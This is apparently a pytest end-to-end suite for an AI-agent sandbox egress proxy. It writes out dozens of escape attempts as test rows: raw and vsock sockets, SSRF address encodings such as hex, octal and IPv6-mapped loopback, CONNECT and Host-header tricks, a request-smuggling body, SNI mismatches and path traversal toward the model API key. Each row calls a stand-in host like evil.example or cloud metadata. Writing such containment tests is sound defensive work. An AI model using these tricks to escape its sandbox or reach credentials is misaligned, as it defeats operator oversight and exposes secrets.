"""Every other way out of an agent's sandbox is closed, tried from inside with the real hive-egress: a row per trick."""

from __future__ import annotations

import ssl
from dataclasses import dataclass

import pytest

from meta.network.verdict import Verdict
from tests.e2e.egress.conftest import KEY, SERVICE, World
from tests.support.net_namespaces import HOST, METADATA, PRIVATE, PUBLIC, PUBLIC_6
from tests.support.own_ca import ca_file

pytestmark = [pytest.mark.bwrap, pytest.mark.timeout(60)]

REFUSED = ("ECONNREFUSED", "ENETUNREACH", "EACCES", "EPERM", "ENOENT", "EAFNOSUPPORT", "EROFS", "EPROTONOSUPPORT")
"""What a way out that is closed answers at once. A time-out would mean that something went somewhere."""

PAST_THE_SOCKET = {
    "a public address": f"result = dial(socket.AF_INET, socket.SOCK_STREAM, ('{PUBLIC}', 443))",
    "a public IPv6 address": f"result = dial(socket.AF_INET6, socket.SOCK_STREAM, ('{PUBLIC_6}', 443))",
    "a private address": f"result = dial(socket.AF_INET, socket.SOCK_STREAM, ('{PRIVATE}', 80))",
    "the cloud's metadata": f"result = dial(socket.AF_INET, socket.SOCK_STREAM, ('{METADATA}', 80))",
    "the host's address": f"result = dial(socket.AF_INET, socket.SOCK_STREAM, ('{HOST}', {SERVICE}))",
    "the host's loopback": f"result = dial(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {SERVICE}))",
    "the host's IPv6 loopback": f"result = dial(socket.AF_INET6, socket.SOCK_STREAM, ('::1', {SERVICE}))",
    "a datagram to a name server": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "result = s.sendto(b'x', ('192.0.2.1', 53))",
    "a raw socket": "result = str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))",
    "a socket for frames": "result = str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))",
    "an abstract socket of the host": "result = dial(socket.AF_UNIX, socket.SOCK_STREAM, '\\0hive-secret')",
    "another agent's socket": "result = dial(socket.AF_UNIX, socket.SOCK_STREAM, '/run/egress/../bob/egress.sock')",
    "another socket in the place of its own": "os.unlink('/run/egress/egress.sock')",
    "a virtual machine's host": "result = dial(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024))",
}


@pytest.mark.parametrize("name", PAST_THE_SOCKET)
def test_nothing_goes_past_the_socket(world: World, name: str) -> None:
    before = list(world.upstream.connections)
    assert world.inside.run(PAST_THE_SOCKET[name]) in (*REFUSED, "ENODEV", "ETIMEDOUT")
    assert world.upstream.connections == before


def test_the_sandbox_has_its_own_socket_alone_and_no_names(world: World) -> None:
    assert world.inside.run("result = os.listdir('/run/egress')") == ["egress.sock"]
    for path in (world.egress.control, world.egress.socket("bob"), world.egress.network, world.egress.state):
        assert world.inside.run(f"os.stat({str(path)!r})") == "ENOENT"
    asked = list(world.names.asked)
    lookup = "try: socket.getaddrinfo('good.example', 443)\nexcept socket.gaierror as error: result = 'no names'"
    assert world.inside.run(lookup) == "no names"
    assert world.names.asked == asked


# through the socket
SERVER_HELLO = "\x16\x03"


def hello(name: str | None) -> str:
    """Return the ClientHello that asks for a name."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context(cafile=str(ca_file()))
    context.check_hostname = False
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read().decode("latin-1")


def connect(target: str, host: str | None = None) -> str:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n"


def get(url: str, host: str, *headers: str, method: str = "GET", body: str = "") -> str:
    return "\r\n".join((f"{method} {url} HTTP/1.1", f"Host: {host}", *headers, "", body))


def test_what_is_on_the_list_is_reached(world: World) -> None:
    greeting = world.inside.exchange(connect("good.example:443"), hello("good.example"), until=SERVER_HELLO)
    assert greeting.startswith("HTTP/1.1 200 ")
    assert SERVER_HELLO in greeting
    assert "http 93.184.216.34 good.example" in world.inside.exchange(get("http://good.example/", "good.example"))
    assert "SSH-2.0-upstream" in world.inside.exchange(connect("ssh.example:22"), "SSH-2.0-me\r\n", until="me\r\n")


@dataclass(frozen=True)
class Trick:
    """Bytes, and the verdict that is counted for them. `said` is in the answer."""

    verdict: Verdict
    parts: tuple[str, ...]
    said: str = "HTTP/1.1 403 "


def asks(verdict: Verdict, target: str, said: str = "HTTP/1.1 403 ") -> Trick:
    return Trick(verdict, (connect(target),), said)


NO, OWN, BAD = Verdict.NOT_LISTED, Verdict.PRIVATE, Verdict.BAD_REQUEST
TRICKS = {
    "a host that is not listed": asks(NO, "evil.example:443"),
    "a name below one that is not listed": asks(NO, "secret.evil.example:443"),
    "the name above a pattern": asks(NO, "wild.example:443"),
    "a name that ends like a pattern": asks(NO, "evilwild.example:443"),
    "another port of a listed host": asks(NO, "good.example:22"),
    "the address of a listed host": asks(NO, f"{PUBLIC}:443"),
    "the IPv6 address of a listed host": asks(NO, f"[{PUBLIC_6}]:443"),
    "the host's loopback by a name of its own": asks(NO, f"localhost:{SERVICE}"),
    "a listed address of the cloud's metadata": Trick(OWN, (get(f"http://{METADATA}/latest/", METADATA),)),
    "a listed address of the host's loopback": asks(OWN, f"127.0.0.1:{SERVICE}"),
    "a listed name of the cloud's metadata": Trick(OWN, (get("http://metadata.example/latest/", "metadata.example"),)),
    "a tunnel to the cloud's metadata": Trick(OWN, (connect("metadata.example:80"), get("/", "metadata.example"))),
    "a listed name of the host's loopback": asks(OWN, f"loop.example:{SERVICE}"),
    "a listed name of the host's IPv6 loopback": asks(OWN, f"six-loop.example:{SERVICE}"),
    "a listed name of the host itself": asks(OWN, f"own.example:{SERVICE}"),
    "a listed name of a private address": asks(OWN, "private.example:443"),
    "a listed name of a provider's shared address": asks(OWN, "shared.example:443"),
    "a listed name of loopback within IPv6": asks(OWN, "mapped.example:443"),
    "a listed name of loopback within 6to4": asks(OWN, "sixto4.example:443"),
    "a listed name of loopback within NAT64": asks(OWN, "nat64.example:443"),
    "a port that the operator did not open": Trick(OWN, (get("http://corp.example/", "corp.example"),)),
    "loopback as one number": asks(BAD, "2130706433:8080", "HTTP/1.1 4"),
    "loopback in hexadecimal": asks(BAD, "0x7f.0.0.1:8080", "HTTP/1.1 4"),
    "loopback in octal": asks(BAD, "0177.0.0.1:8080", "HTTP/1.1 4"),
    "loopback in short": asks(BAD, "127.1:8080", "HTTP/1.1 4"),
    "loopback mapped into IPv6": asks(BAD, "[::ffff:127.0.0.1]:8080", "HTTP/1.1 4"),
    "an address with a zone": asks(BAD, "[fe80::1%lo]:8080", "HTTP/1.1 4"),
    "two dots at the end": asks(BAD, "good.example..:443", "HTTP/1.1 4"),
    "a name in another script": asks(BAD, "g\u00f6\u00f6d.example:443", "HTTP/1.1 4"),
    "a null in the name": asks(BAD, "good.example\0.evil.example:443", "HTTP/1.1 4"),
    "a percent in the name": asks(BAD, "good.example%2eevil.example:443", "HTTP/1.1 4"),
    "two targets": asks(BAD, "good.example:443@evil.example:443", "HTTP/1.1 4"),
    "a target with a path": asks(BAD, "good.example:443/evil.example", "HTTP/1.1 4"),
    "no port": asks(BAD, "good.example", "HTTP/1.1 4"),
    "port 0": asks(BAD, "good.example:0", "HTTP/1.1 4"),
    "a port that is too large": asks(BAD, "good.example:65979", "HTTP/1.1 4"),
    "a port with a sign": asks(BAD, "good.example:+443", "HTTP/1.1 4"),
    "a listed Host for a target that is not": Trick(NO, (connect("evil.example:443", "good.example:443"),)),
    # TLS
    "another name in TLS": Trick(Verdict.SNI, (connect("good.example:443"), hello("evil.example")), " 200 "),
    "no name in TLS": Trick(Verdict.SNI, (connect("good.example:443"), hello(None)), " 200 "),
    "no TLS on 443": Trick(Verdict.NOT_TLS, (connect("good.example:443"), "GET / HTTP/1.1\r\n\r\n"), " 200 "),
    "another name in TLS on another port": Trick(
        Verdict.SNI, (connect("ssh.example:22"), hello("evil.example")), " 200 "
    ),
    # plain HTTP
    "another host by absolute form": Trick(NO, (get("http://evil.example/", "evil.example"),)),
    "another host behind a listed Host": Trick(Verdict.HOST_HEADER, (get("http://evil.example/", "good.example"),)),
    "a listed user before another host": Trick(
        BAD, (get("http://good.example@evil.example/", "good.example"),), "HTTP/1.1 4"
    ),
    "a backslash before another host": Trick(
        BAD, (get("http://good.example\\@evil.example/", "good.example"),), "HTTP/1.1 4"
    ),
    "a fragment before another host": Trick(
        BAD, (get("http://good.example#@evil.example/", "good.example"),), "HTTP/1.1 4"
    ),
    "TLS that the proxy should open": Trick(BAD, (get("https://good.example/", "good.example"),), "HTTP/1.1 4"),
    "another scheme": Trick(BAD, (get("ftp://good.example/", "good.example"),), "HTTP/1.1 4"),
    "another Host in a tunnel to port 80": Trick(
        Verdict.HOST_HEADER, (connect("good.example:80"), get("/", "evil.example")), "403 "
    ),
    "two Hosts": Trick(BAD, (get("http://good.example/", "good.example", "Host: evil.example"),), "HTTP/1.1 4"),
    "a chunked body with a length": Trick(
        BAD,
        (
            get(
                "http://good.example/",
                "good.example",
                "Transfer-Encoding: chunked",
                "Content-Length: 4",
                method="POST",
                body="0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            ),
        ),
        "HTTP/1.1 4",
    ),
    "two lengths": Trick(
        BAD,
        (get("http://good.example/", "good.example", "Content-Length: 0", "Content-Length: 44", method="POST"),),
        "HTTP/1.1 4",
    ),
    "a space before a colon": Trick(BAD, (get("http://good.example/", "good.example", "X-a : b"),), "HTTP/1.1 4"),
    "a line that ends in a header": Trick(BAD, (get("http://good.example/", "good.example", "a: b\rc"),), "HTTP/1.1 4"),
    # the model's route
    "a path that climbs out of the route": Trick(
        Verdict.NO_ROUTE, (get("/anthropic/v1/messages/../../admin", "x", method="POST"),), "HTTP/1.1 4"
    ),
    "a path that climbs out, encoded": Trick(
        Verdict.NO_ROUTE, (get("/anthropic/v1/messages/%2e%2e/%2E%2E/admin", "x", method="POST"),), "HTTP/1.1 4"
    ),
    "an address within the route": Trick(
        Verdict.NO_ROUTE, (get("/anthropic/http://evil.example/v1/messages", "x", method="POST"),), "HTTP/1.1 4"
    ),
    "an authority within the route": Trick(
        Verdict.NO_ROUTE, (get("/anthropic//evil.example/v1/messages", "x", method="POST"),), "HTTP/1.1 4"
    ),
    "a user within the route": Trick(
        Verdict.NO_ROUTE, (get("/anthropic@evil.example/v1/messages", "x", method="POST"),), "HTTP/1.1 4"
    ),
    "another path of the model's API": Trick(
        Verdict.NO_ROUTE, (get("/anthropic/v1/organizations", "x"),), "HTTP/1.1 4"
    ),
    "a method that would return the key": Trick(
        Verdict.NO_ROUTE, (get("/anthropic/v1/messages", "x", method="TRACE"),), "HTTP/1.1 4"
    ),
    "another agent's route": Trick(Verdict.NO_ROUTE, (get("/bobs/v1/messages", "x", method="POST"),), "HTTP/1.1 4"),
    "a tunnel to a route": asks(BAD, "/anthropic", "HTTP/1.1 4"),
    "a path of hive's own that is none": Trick(Verdict.NO_ROUTE, (get("/.hive/policy", "x"),), "HTTP/1.1 4"),
}
"""The two whose tunnel is answered by 200 are ended when the first bytes come."""


@pytest.mark.parametrize("name", TRICKS)
def test_a_trick_is_refused_and_counted_and_reaches_nothing(world: World, name: str) -> None:
    trick = TRICKS[name]
    before, reached = world.verdicts(), list(world.upstream.requests)
    answer = world.inside.exchange(*trick.parts)
    assert trick.said in answer
    assert SERVER_HELLO not in answer
    assert (world.verdicts() - before)[trick.verdict] == 1
    assert world.upstream.requests == reached


def test_a_name_that_turns_private_is_refused_from_then_on(world: World) -> None:
    asked = len(world.names.asked)
    first = world.inside.exchange(connect("flip.example:443"), hello("flip.example"), until=SERVER_HELLO)
    assert SERVER_HELLO in first
    assert world.names.asked[asked:] == ["flip.example"]
    assert world.inside.exchange(connect("flip.example:443")).startswith("HTTP/1.1 403 ")
    assert world.upstream.reached(f"https {PRIVATE}") == 0


def test_a_redirect_leads_no_further_than_the_list(world: World) -> None:
    answer = world.inside.exchange(get("http://good.example/go?http://evil.example/", "good.example"))
    assert "302" in answer.partition("\r\n")[0]
    assert "location: http://evil.example/" in answer.lower()
    assert [seen.headers["host"] for seen in world.upstream.requests[-1:]] == ["good.example"]


def test_names_that_are_refused_are_asked_of_no_name_server(world: World) -> None:
    world.inside.exchange(connect("c2VjcmV0.evil.example:443"))
    assert not [name for name in world.names.asked if "evil" in name]


def test_a_request_in_the_body_of_another_stays_a_body(world: World) -> None:
    inner = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    length = f"Content-Length: {len(inner)}"
    before = len(world.upstream.requests)
    outer = get("http://good.example/", "good.example", length, method="POST", body=inner)
    answer = world.inside.exchange(outer, get("http://good.example/last", "good.example"))
    assert answer.count("HTTP/1.1 ") == 2
    seen = [(request.headers["host"], request.path, request.body) for request in world.upstream.requests[before:]]
    assert seen == [("good.example", "/", inner.encode()), ("good.example", "/last", b"")]


def test_the_second_request_of_a_connection_is_judged_like_the_first(world: World) -> None:
    before = len(world.upstream.requests)
    both = get("http://good.example/", "good.example") + get("http://evil.example/", "evil.example")
    answer = world.inside.exchange(both, until="HTTP/1.1 403")
    assert answer.startswith("HTTP/1.1 200")
    assert "evil.example:80-is-not-on-the-list-of-alice" in answer
    assert [seen.headers["host"] for seen in world.upstream.requests[before:]] == ["good.example"]


@pytest.mark.parametrize(
    "headers",
    [
        ("x-api-key: mine", "X-API-KEY: mine"),
        ("Authorization: Bearer mine",),
        ("Connection: x-api-key", "x-api-key: mine"),
        ("Connection: close, host", "Cookie: mine"),
        ("Proxy-Authorization: Basic mine",),
    ],
)
def test_the_route_sends_the_operators_key_and_nothing_in_its_place(world: World, headers: tuple[str, ...]) -> None:
    before = len(world.upstream.requests)
    asked = get(
        "/anthropic/v1/messages?beta=true", "evil.example", *headers, "Content-Length: 2", method="POST", body="{}"
    )
    answer = world.inside.exchange(asked)
    (seen,) = world.upstream.requests[before:]
    assert (seen.path, seen.headers["x-api-key"], seen.headers["host"]) == (
        "/v1/messages?beta=true",
        KEY,
        "api.example",
    )
    assert not [value for value in seen.headers.values() if "mine" in value]
    assert KEY not in answer


def test_the_report_names_what_could_be_allowed_and_nothing_else(world: World) -> None:
    world.inside.exchange(connect("evil.example:443"))
    refusals = {(refusal.host, refusal.port) for refusal in world.egress.agent("alice").refusals}
    assert ("evil.example", 443) in refusals
    assert world.egress.agent("bob").refusals == ()
    assert KEY not in world.egress.log.read_text(encoding="utf-8")
